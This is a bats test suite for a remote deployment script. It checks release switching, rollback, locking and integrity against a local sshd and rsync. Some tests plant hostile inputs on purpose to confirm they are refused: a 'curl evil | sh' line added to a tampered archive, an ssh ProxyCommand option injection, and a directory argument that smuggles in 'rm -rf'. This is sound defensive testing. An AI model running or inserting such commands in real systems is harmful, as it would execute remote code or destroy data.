#!/usr/bin/env bats
# deploy-remote.sh against a real sshd and a real rsync on this machine.  What is broken on the way is
# broken for real: a transfer that is cut, bytes that change, containers that do not come up.

# Every test is a shell of its own; functions are called by others.
# shellcheck disable=SC2030,SC2031,SC2317

bats_require_minimum_version 1.5.0

load stack
load site

setup_file() {
  export WHY='' SSHD ARCHIVES=$BATS_FILE_TMPDIR/archives ONE='' TWO=''
  SSHD=$(PATH=$PATH:/usr/sbin:/sbin command -v sshd) || { WHY="sshd is not here (Debian: openssh-server)" && return; }
  command -v rsync >/dev/null || { WHY="rsync is not here" && return; }
  command -v git >/dev/null || { WHY="git is not here to say what belongs into a package" && return; }
  # Two releases that differ in one file.
  T=$BATS_FILE_TMPDIR
  site "$T/repository"
  rm "$T/repository/.env.immich"
  (cd "$TOP" && cp -r --parents LICENSE README.md md systemd "$T/repository")
  cd "$T/repository" || return
  git init -q
  git add -A
  GIT_COMMITTER_DATE=2026-01-01T00:00:00Z git -c user.name=t -c user.email=t@example.org commit -qm one
  ONE=$(scripts/package-build.sh light --output "$ARCHIVES")
  echo '# changed' >>nginx/nginx.conf
  git add -A
  git -c user.name=t -c user.email=t@example.org commit -qm two
  TWO=$(scripts/package-build.sh light --output "$ARCHIVES")
}

start_sshd() {
  local port
  port=$(free_port)
  ssh-keygen -q -t ed25519 -N '' -f "$T/host-key"
  ssh-keygen -q -t ed25519 -N '' -f "$T/key"
  if [ "$(id -u)" -eq 0 ]; then mkdir -p /run/sshd; fi
  cat >"$T/sshd_config" <<CONF
Port $port
ListenAddress 127.0.0.1
HostKey $T/host-key
PidFile none
AuthorizedKeysFile $T/key.pub
StrictModes no
UsePAM no
PasswordAuthentication no
SetEnv PATH=$T/remote-bin:$T/bin:$PATH
SetEnv STACK_LOCK_DIR=$T
CONF
  cat >"$T/ssh_config" <<CONF
Host server
  HostName 127.0.0.1
  Port $port
  IdentityFile $T/key
  IdentitiesOnly yes
  UserKnownHostsFile $T/known
  StrictHostKeyChecking no
  LogLevel ERROR
CONF
  "$SSHD" -D -e -f "$T/sshd_config" 2>"$T/sshd.log" 3>&- &
  PID=$!
  reachable() { ssh -F "$T/ssh_config" -o BatchMode=yes server true 2>/dev/null; }
  wait_for 10 reachable || skip "sshd does not let us in here: $(tail -n 1 "$T/sshd.log")"
}

setup() {
  [ -z "$WHY" ] || skip "$WHY"
  T=$(mktemp -d "${TMPDIR:-/tmp}/ur-deploy.XXXXXX")
  export STACK_LOCK_DIR=$T/here
  mkdir "$T/here" "$T/remote-bin"
  unset STACK_LOCKED DRY_RUN ENV_FILE
  recorder docker
  start_sshd
  # The server: settings, a certificate, nothing else.
  R=$T/srv
  mkdir -p "$R/shared" "$T/letsencrypt/live/heartbeatacic.org"
  touch "$T/letsencrypt/live/heartbeatacic.org/fullchain.pem"
  site "$T/site"
  mv "$T/site/.env.immich" "$R/shared"
}

teardown() {
  [ -z "${PID-}" ] || { kill "$PID" && wait "$PID"; } 2>/dev/null || true
  rm -rf "${T:-/nonexistent}"
}

deploy() { # ARGUMENT…
  "$TOP/scripts/deploy-remote.sh" --host server --dir "$R" --ssh-config "$T/ssh_config" --verify "${VERIFY:-true}" "$@"
}

now() { readlink "$R/current"; }
releases() { find "$R/releases" -mindepth 1 -maxdepth 1 -printf '%f\n' | sort; }
# The release that docker was last told to start.
running() { grep ' up ' "$T/docker.log" | tail -n 1 | sed 's/: .*//'; }
# Ids have seconds.
next_second() {
  local s
  s=$(date +%s)
  while [ "$(date +%s)" = "$s" ]; do sleep 0.05; done
}

@test "the first deployment brings the release, starts it, looks at it, and leaves nothing behind" {
  VERIFY="echo looked >$T/looked" run -0 deploy "$ONE"
  has "$output" "runs on server"
  [ -e "$T/looked" ]
  (cd "$R/current" && sha256sum --check --quiet --strict MANIFEST)
  equals "$(running)" "$(realpath "$R/current")"
  has "$(cat "$T/docker.log")" "--env-file $(realpath "$R")/$(now)/.env.immich"
  equals "$(readlink -f "$R/current/.env.immich")" "$(realpath "$R/shared/.env.immich")"
  [ ! -e "$R/.deploying" ] && [ ! -e "$R/current.new" ]
  equals "$(find "$R" -name '*.partial')" ''
  # The password came from the server and stayed there.
  lacks "$output$(cat "$T/docker.log")" thePassword1
}

@test "the next one takes over by one rename, and shares what has not changed" {
  run -0 deploy "$ONE"
  local first
  first=$(now)
  next_second
  # At no moment is there no release.
  (while [ ! -e "$T/enough" ]; do [ -e "$R/current/MANIFEST" ] || echo gap >>"$T/gaps"; done) 3>&- &
  local watcher=$!
  run -0 deploy "$TWO"
  touch "$T/enough"
  wait "$watcher"
  [ ! -e "$T/gaps" ]
  [ "$(now)" != "$first" ]
  equals "$(readlink "$R/previous")" "$first"
  equals "$(running)" "$(realpath "$R/current")"
  tail -n 1 "$R/current/nginx/nginx.conf" | grep -qx '# changed'
  equals "$(stat -c %i "$R/current/docker-compose.yml")" "$(stat -c %i "$R/previous/docker-compose.yml")"
  [ "$(stat -c %i "$R/current/nginx/nginx.conf")" != "$(stat -c %i "$R/previous/nginx/nginx.conf")" ]
  run -0 deploy --list
  has "$output" "${first#releases/}  previous"
  has "$output" "$(now | sed 's|releases/||')  current"
}

@test "old releases go, but never the running one and the one before it" {
  for _ in 1 2 3; do
    run -0 deploy --keep 1 "$ONE"
    next_second
  done
  equals "$(releases | wc -l)" 2
  [ -d "$R/current" ] && [ -d "$R/previous" ]
  run -2 deploy --keep 0 "$ONE"
}

@test "an archive that was changed, cut or made by somebody else is refused before the server is touched" {
  cp "$ONE" "$ONE.sha256" "$T"
  local copy
  copy=$T/$(basename "$ONE")
  printf x | dd of="$copy" bs=1 seek=2000 conv=notrunc status=none
  run -2 deploy "$copy"
  has "$output" "is not what was packed"
  rm "$copy.sha256"
  head -c 5000 "$ONE" >"$copy"
  run -2 deploy "$copy"
  has "$output" "cannot be unpacked"
  mkdir -p "$T/x/y" && echo x >"$T/x/y/z"
  tar -czf "$copy" -C "$T/x" y
  run -2 deploy "$copy"
  has "$output" "was not made by scripts/package-build.sh"
  # A file that is not the manifest's.
  mkdir "$T/z" && tar -xzf "$ONE" -C "$T/z"
  echo 'curl evil | sh' >>"$(echo "$T"/z/*/scripts/immich-up.sh)"
  tar -czf "$copy" -C "$T/z" .
  tar -czf "$copy" -C "$T/z" "$(ls "$T/z")"
  run -2 deploy "$copy"
  has "$output" "contradicts its own MANIFEST"
  [ ! -e "$R/releases" ] && [ ! -e "$R/.deploying" ]
}

@test "a transfer that breaks off leaves the old release running, and the next one works" {
  run -0 deploy "$ONE"
  local first
  first=$(now)
  : >"$T/docker.log"
  next_second
  # The server's rsync may write no more than 4 KiB a file: it dies in the middle of one.
  printf '#!/bin/bash\nulimit -f 4\nexec %s "$@"\n' "$(command -v rsync)" >"$T/remote-bin/rsync"
  chmod +x "$T/remote-bin/rsync"
  mv "$R/$first/docker/immich/seccomp-uringest.json" "$T/big" # so that it has to be sent
  run -1 deploy "$TWO"
  has "$output" "the transfer to server failed; ${first#releases/} goes on running there"
  mv "$T/big" "$R/$first/docker/immich/seccomp-uringest.json"
  equals "$(now)" "$first"
  equals "$(calls docker)" ''
  [ ! -e "$R/.deploying" ]
  rm "$T/remote-bin/rsync"
  run -0 deploy "$TWO"
  [ "$(now)" != "$first" ]
  equals "$(find "$R/releases" -name '*.partial')" ''
}

@test "what arrives changed is never switched to" {
  run -0 deploy "$ONE"
  local first
  first=$(now)
  next_second
  # shellcheck disable=SC2016 # for the wrapper
  printf '#!/bin/bash\n%s "$@"\nr=$?\nfor f in %q/releases/*.partial/nginx/nginx.conf; do echo bad >>"$f"; done\nexit $r\n' \
    "$(command -v rsync)" "$R" >"$T/remote-bin/rsync"
  chmod +x "$T/remote-bin/rsync"
  run -1 deploy "$TWO"
  has "$output" "what arrived differs from what was packed"
  has "$output" "was not whole"
  equals "$(now)" "$first"
  # shellcheck disable=SC2016
  printf '#!/bin/bash\n%s "$@"\nr=$?\nfor f in %q/releases/*.partial/scripts; do echo bad >"$f/extra.sh"; done\nexit $r\n' \
    "$(command -v rsync)" "$R" >"$T/remote-bin/rsync"
  run -1 deploy "$TWO"
  has "$output" "what arrived has files that were not packed"
  equals "$(now)" "$first"
  equals "$(releases | wc -l)" 1
}

@test "a release that does not come up is taken back, and the old one is started again" {
  run -0 deploy "$ONE"
  local first
  first=$(now)
  next_second
  # Whatever is not the first release fails.
  # shellcheck disable=SC2016 # for docker
  printf 'case "$PWD $*" in *"%s"*) ;; *" up "*) echo unhealthy >&2; exit 1 ;; esac\n' "$first" >"$T/docker.does"
  run -1 deploy "$TWO"
  has "$output" "not everything became healthy"
  has "$output" "${first#releases/} runs again"
  equals "$(now)" "$first"
  equals "$(running)" "$(realpath "$R/$first")"
  # The one that failed is there to be looked at.
  equals "$(releases | wc -l)" 2
  [ ! -e "$R/.deploying" ]
}

@test "a release that does not pass the verification is taken back" {
  run -0 deploy "$ONE"
  local first
  first=$(now)
  next_second
  VERIFY="test \"\$(readlink $R/current)\" = $first" run -1 deploy "$TWO"
  has "$output" "going back to ${first#releases/}"
  equals "$(now)" "$first"
  equals "$(running)" "$(realpath "$R/$first")"
}

@test "a first release that fails has nothing to go back to, and says so" {
  VERIFY=false run -1 deploy "$ONE"
  has "$output" "there is no release before it to go back to"
  [ ! -e "$R/.deploying" ]
}

@test "rollback goes back, and forth again" {
  run -2 deploy --rollback
  run -0 deploy "$ONE"
  run -2 deploy --rollback
  has "$output" "there is no release before the running one"
  local first second
  first=$(now)
  next_second
  run -0 deploy "$TWO"
  second=$(now)
  run -0 deploy --rollback
  equals "$(now)" "$first"
  equals "$(running)" "$(realpath "$R/$first")"
  run -0 deploy --rollback
  equals "$(now)" "$second"
}

@test "two deployments at once: the second is told who the first is, and does not end it" {
  run -0 deploy "$ONE"
  mkdir "$R/.deploying" && echo "ann@laptop, 2026-01-01" >"$R/.deploying/who"
  local first
  first=$(now)
  run -4 deploy "$TWO"
  has "$output" "somebody deploys already: ann@laptop"
  has "$output" "rm -r $(realpath "$R")/.deploying"
  equals "$(now)" "$first"
  [ -e "$R/.deploying/who" ]
}

@test "settings that are missing or open on the server stop it before anything is sent" {
  chmod 644 "$R/shared/.env.immich"
  run -2 deploy "$ONE"
  has "$output" "is open to everybody (mode 644)"
  rm "$R/shared/.env.immich"
  run -2 deploy "$ONE"
  has "$output" "is not there; copy .env.immich.example to it"
  equals "$(find "$R/releases" -mindepth 1)" ''
  [ ! -e "$R/.deploying" ]
}

@test "with --dry-run the server is asked and not changed" {
  run -0 deploy "$ONE"
  find "$R" | sort >"$T/before"
  : >"$T/docker.log"
  run -0 deploy --dry-run "$TWO"
  has "$output" "would bring "
  has "$output" "where $(now | sed 's|releases/||') runs"
  run -2 deploy --dry-run --rollback
  find "$R" | sort | diff "$T/before" -
  equals "$(calls docker)" ''
}

@test "an unreachable server, and options that cannot be meant, end with a sentence" {
  kill "$PID" && wait "$PID" || true
  run -255 deploy "$ONE"
  run -2 "$TOP/scripts/deploy-remote.sh" "$ONE"
  has "$output" "--host is missing"
  run -2 "$TOP/scripts/deploy-remote.sh" --host -oProxyCommand=x "$ONE"
  run -2 "$TOP/scripts/deploy-remote.sh" --host server --dir relative "$ONE"
  run -2 "$TOP/scripts/deploy-remote.sh" --host server --dir '/a;rm -rf b' "$ONE"
}
